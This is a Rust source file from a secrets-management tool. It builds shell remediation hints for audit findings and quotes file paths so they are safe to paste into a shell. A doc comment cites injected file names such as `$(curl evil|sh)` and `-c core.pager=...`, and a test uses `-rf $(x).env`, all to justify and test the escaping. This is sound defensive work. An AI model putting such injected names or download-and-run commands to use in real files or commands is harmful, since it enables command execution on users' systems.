//! How to fix each finding, in the command line's words: the one place the library writes
//! them (`envmint rotate production --key A`, `git rm --cached -- .env`, `chmod 600 .env`).
//!
//! Errors name no command: their advice is the binary's (`src/bin/envmint/report/`). A
//! finding's fix is different, on purpose: it is part of the finding as data
//! ([`super::Finding::hint`]), printed by `audit`, carried whole by `audit --json` (`fix`) and
//! by the commit guard (`audit --staged` in a git hook), so every reader gets the same advice
//! without a table of checks in the binary. Each [`Fix`] holds what its words need; its
//! `Display` is the words. A path in a command is quoted for the shell
//! ([`super::shell_word`]): file names in a repository are anyone's choice.

use crate::manifest::MAX_KEEP;
use std::fmt;
use std::path::Path;

/// One finding's fix. `env` is an environment's name, `key` and `secret` keys (a secret: a
/// declared one, which `--key` takes), `of` the secret a retired or pending value belongs to.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Fix<'a> {
    /// A secret file others can read: the mode that fits it.
    Chmod {
        /// The mode to set (0600 and what the file's kind allows).
        mode: u32,
        /// The file.
        path: &'a Path,
        /// Whether the manifest could declare the mode instead (a plaintext environment file
        /// without `mode`).
        declarable: bool,
    },
    /// A folder of secret files others can write to.
    ChmodOthersNoWrite {
        /// The folder.
        path: &'a Path,
    },
    /// A secret file git tracks: untrack it, and rotate what it held.
    Untrack {
        /// The file, relative to the work tree's root.
        path: &'a Path,
    },
    /// A secret file `.gitignore` does not cover.
    Ignore {
        /// The `.gitignore` line to add.
        pattern: String,
    },
    /// A sealed store git does not send to envmint's merge driver and textconv.
    GitSetup,
    /// A value found in git's history.
    Leaked {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// A value staged for commit.
    Unstage {
        /// The file, relative to the work tree's root.
        path: &'a Path,
    },
    /// A signing key that looks like a credential another service checks.
    DeclareRole {
        /// The key.
        key: &'a str,
    },
    /// An overlap longer than the retired values kept can cover: keep more.
    KeepMore {
        /// The key.
        key: &'a str,
        /// The `keep` that makes it hold.
        needed: u64,
    },
    /// The same, where `previous` holds one value: a numbered or list form keeps more.
    KeepInList {
        /// The key.
        key: &'a str,
        /// The `keep` that makes it hold.
        needed: u64,
    },
    /// The same, past the most values envmint keeps ([`MAX_KEEP`]): a shorter overlap.
    ShortenOverlap {
        /// `rotate_every`, in words.
        every: String,
    },
    /// A previous value the manifest no longer declares.
    ExpireAndRotate {
        /// The environment.
        env: &'a str,
    },
    /// A generated secret too weak for its spec.
    ReplaceWeak {
        /// The environment.
        env: &'a str,
    },
    /// An undeclared key holding a placeholder or an empty value.
    SetOrDeclare {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// An external secret holding a placeholder or an empty value.
    GetRealFromIssuer {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// An external secret whose value looks weak.
    GetLongerFromIssuer {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// An undeclared key whose value is too short.
    DeclareOrLonger {
        /// The environment.
        env: &'a str,
    },
    /// One value in two environments.
    OwnPerEnvironment,
    /// One value under two keys of one environment.
    OwnPerUse,
    /// A store whose newest record lies ahead of the clock.
    CorrectRecordLine,
    /// A record dated in the future.
    CorrectRecordAbove {
        /// The key below the record.
        key: &'a str,
    },
    /// A record that keeps a retired value past the manifest's overlap.
    RecordThatHolds {
        /// The environment.
        env: &'a str,
        /// The key below the record.
        key: &'a str,
    },
    /// A due credential: change it at its service first.
    RotateCredential {
        /// The environment.
        env: &'a str,
        /// The secret.
        secret: &'a str,
    },
    /// A due external secret: its issuer makes the new value.
    SetExternal {
        /// The environment.
        env: &'a str,
        /// The secret.
        secret: &'a str,
    },
    /// A due secret envmint generates.
    Rotate {
        /// The environment.
        env: &'a str,
        /// The secret.
        secret: &'a str,
    },
    /// A keyring kept for a secret whose role is no longer `encryption`.
    KeyringRole {
        /// The environment.
        env: &'a str,
        /// The secret.
        secret: &'a str,
    },
    /// A keyring holding many keys.
    Reencrypt {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// A pending value older than rotate resumes.
    FinishByHand {
        /// The environment.
        env: &'a str,
        /// The pending value's key.
        key: &'a str,
        /// The secret it belongs to.
        of: &'a str,
    },
    /// A pending value another machine or HOME wrote.
    ResumeWhereStarted {
        /// The environment.
        env: &'a str,
        /// The secret it belongs to.
        of: &'a str,
    },
    /// A pending value of an unfinished rotation.
    Resume {
        /// The environment.
        env: &'a str,
        /// The secret it belongs to.
        of: &'a str,
    },
    /// Retired values past their expiry.
    RemoveExpired {
        /// The environment.
        env: &'a str,
    },
    /// A missing external secret.
    GetFromIssuer {
        /// The environment.
        env: &'a str,
        /// The key.
        key: &'a str,
    },
    /// A missing secret envmint generates.
    Bootstrap {
        /// The environment.
        env: &'a str,
    },
}

impl fmt::Display for Fix<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Fix::Chmod {
                mode,
                path,
                declarable: true,
            } => write!(
                f,
                "chmod {mode:o} {} (or declare the mode it needs: mode = \"0640\" in the \
                 manifest)",
                shell_word(path)
            ),
            Fix::Chmod { mode, path, .. } => write!(f, "chmod {mode:o} {}", shell_word(path)),
            Fix::ChmodOthersNoWrite { path } => write!(f, "chmod o-w {}", shell_word(path)),
            Fix::Untrack { path } => write!(
                f,
                "git rm --cached -- {} and rotate what it holds: its content is in the history \
                 (envmint audit --git shows where)",
                shell_word(path)
            ),
            Fix::Ignore { pattern } => write!(
                f,
                "add `{pattern}` to .gitignore (envmint init adds the usual patterns)"
            ),
            Fix::GitSetup => {
                f.write_str("run `envmint git setup --config` (this repository's config only)")
            }
            Fix::Leaked { env, key } => write!(
                f,
                "treat it as leaked: rotate {key} in {env} (rewriting history does not undo a \
                 clone or a push)"
            ),
            Fix::Unstage { path } => write!(
                f,
                "unstage it: git restore --staged {} (and add it to .gitignore)",
                shell_word(path)
            ),
            Fix::DeclareRole { key } => write!(
                f,
                "declare role = \"credential\" in [secrets.{key}] if another service checks it \
                 (or role = \"encryption\" for a data key)"
            ),
            Fix::KeepMore { key, needed } => write!(
                f,
                "keep = {needed} in the `previous` of [secrets.{key}] makes it hold"
            ),
            Fix::KeepInList { key, needed } => write!(
                f,
                "a numbered or list `previous` with keep = {needed} makes it hold, e.g. previous \
                 = {{ list = \"{key}_PREVIOUS\", separator = \",\", keep = {needed} }}"
            ),
            Fix::ShortenOverlap { every } => write!(
                f,
                "shorten `overlap` to at most {every} x {MAX_KEEP}, or rotate less often"
            ),
            Fix::ExpireAndRotate { env } => write!(
                f,
                "`envmint bootstrap {env}` marks it expired and `envmint rotate {env} --due` \
                 removes it"
            ),
            Fix::ReplaceWeak { env } => write!(
                f,
                "envmint bootstrap {env} --replace-weak replaces it with a fresh secret"
            ),
            Fix::SetOrDeclare { env, key } => write!(
                f,
                "set a real secret with `envmint set {env} {key}`, or declare it in the manifest \
                 and run `envmint bootstrap {env} --replace-weak`"
            ),
            Fix::GetRealFromIssuer { env, key } => write!(
                f,
                "get a real one from its issuer, then `envmint set {env} {key}`"
            ),
            Fix::GetLongerFromIssuer { env, key } => write!(
                f,
                "get a longer one from its issuer, then `envmint set {env} {key}`"
            ),
            Fix::DeclareOrLonger { env } => write!(
                f,
                "if envmint may make it, declare it in the manifest and run `envmint bootstrap \
                 {env} --replace-weak`; else get a longer one from its issuer"
            ),
            Fix::OwnPerEnvironment => f.write_str(
                "every environment needs its own secrets: replace this one (envmint set, or \
                 declare it and run bootstrap --replace-weak)",
            ),
            Fix::OwnPerUse => {
                f.write_str("give each use its own secret, so one leak does not open both")
            }
            Fix::CorrectRecordLine => f.write_str(
                "correct or remove that record line (or the clock): `envmint rotate` refuses \
                 this store until then",
            ),
            Fix::CorrectRecordAbove { key } => write!(
                f,
                "correct or remove the record above {key} (or the clock): `envmint rotate` \
                 refuses this store until then"
            ),
            Fix::RecordThatHolds { env, key } => write!(
                f,
                "nothing keeps it longer than the manifest's overlap; check who wrote the record \
                 above {key}, and `envmint rotate {env} --due` writes one that holds"
            ),
            Fix::RotateCredential { env, secret } => write!(
                f,
                "change it at its service first, then `envmint rotate {env} --key {secret}` \
                 (`rotate --due` never changes a credential)"
            ),
            Fix::SetExternal { env, secret } => write!(
                f,
                "get a new value from its issuer, then `envmint set {env} {secret}`"
            ),
            Fix::Rotate { env, secret } => write!(
                f,
                "envmint rotate {env} --key {secret} (or `envmint rotate --due` for every due key)"
            ),
            Fix::KeyringRole { env, secret } => write!(
                f,
                "if {secret} encrypts data, declare role = \"encryption\" in [secrets.{secret}] \
                 again; else, once no data needs the old keys, `envmint retire {env} {secret}` \
                 removes them"
            ),
            Fix::Reencrypt { env, key } => write!(
                f,
                "re-encrypt the data under the current {key}, then `envmint retire {env} {key}` \
                 removes the old keys"
            ),
            Fix::FinishByHand { env, key, of } => write!(
                f,
                "if the service holds it, finish by hand: envmint get {env} {key} | envmint set \
                 {env} {of}; then envmint rotate {env} --key {of} --abandon drops it"
            ),
            Fix::ResumeWhereStarted { env, of } => write!(
                f,
                "resume it where it was started; if nobody here started it: envmint rotate {env} \
                 --key {of} --abandon"
            ),
            Fix::Resume { env, of } => write!(
                f,
                "envmint rotate {env} --key {of} resumes it; --abandon drops it"
            ),
            Fix::RemoveExpired { env } => {
                write!(f, "envmint rotate {env} --due removes expired values")
            }
            Fix::GetFromIssuer { env, key } => {
                write!(f, "get it from its issuer, then `envmint set {env} {key}`")
            }
            Fix::Bootstrap { env } => write!(f, "envmint bootstrap {env} adds it"),
        }
    }
}

/// `path` as one word of a shell command in a hint, safe to paste: quoted when it holds
/// anything but the usual file-name characters, and `./` in front of a relative name that
/// starts with `-` (so `chmod` or `git rm` does not read it as an option). File names in a
/// repository are anyone's choice (`$(curl evil|sh)`, `-c core.pager=...`).
pub fn shell_word(path: &Path) -> String {
    let text = path.to_string_lossy();
    let text = if text.starts_with('-') {
        format!("./{text}")
    } else {
        text.into_owned()
    };
    let plain = !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./@%+=:,-".contains(c));
    if plain {
        text
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixes_name_their_command_with_paths_quoted_for_the_shell() {
        let odd = Path::new("-rf $(x).env");
        for (fix, words) in [
            (
                Fix::Chmod {
                    mode: 0o600,
                    path: odd,
                    declarable: false,
                },
                "chmod 600 './-rf $(x).env'",
            ),
            (
                Fix::Untrack { path: odd },
                "git rm --cached -- './-rf $(x).env' and rotate what it holds: its content is in \
                 the history (envmint audit --git shows where)",
            ),
            (
                Fix::Rotate {
                    env: "production",
                    secret: "A",
                },
                "envmint rotate production --key A (or `envmint rotate --due` for every due key)",
            ),
            (
                Fix::KeepInList {
                    key: "A",
                    needed: 3,
                },
                "a numbered or list `previous` with keep = 3 makes it hold, e.g. previous = { \
                 list = \"A_PREVIOUS\", separator = \",\", keep = 3 }",
            ),
        ] {
            assert_eq!(fix.to_string(), words);
        }
    }

    /// The fixes no end-to-end test reaches word for word (each needs a store in a state a
    /// case file cannot set up: a retired value past its expiry, a full keyring...).
    #[test]
    fn fixes_of_rotation_findings_say_the_command_whole() {
        let (env, key) = ("production", "A");
        assert_eq!(
            Fix::ExpireAndRotate { env }.to_string(),
            "`envmint bootstrap production` marks it expired and `envmint rotate production \
             --due` removes it"
        );
        assert_eq!(
            Fix::SetOrDeclare { env, key }.to_string(),
            "set a real secret with `envmint set production A`, or declare it in the manifest \
             and run `envmint bootstrap production --replace-weak`"
        );
        assert_eq!(
            Fix::RecordThatHolds { env, key }.to_string(),
            "nothing keeps it longer than the manifest's overlap; check who wrote the record \
             above A, and `envmint rotate production --due` writes one that holds"
        );
        assert_eq!(
            Fix::SetExternal { env, secret: key }.to_string(),
            "get a new value from its issuer, then `envmint set production A`"
        );
        assert_eq!(
            Fix::Reencrypt { env, key }.to_string(),
            "re-encrypt the data under the current A, then `envmint retire production A` \
             removes the old keys"
        );
        assert_eq!(
            Fix::Resume { env, of: key }.to_string(),
            "envmint rotate production --key A resumes it; --abandon drops it"
        );
        assert_eq!(
            Fix::RemoveExpired { env }.to_string(),
            "envmint rotate production --due removes expired values"
        );
    }
}
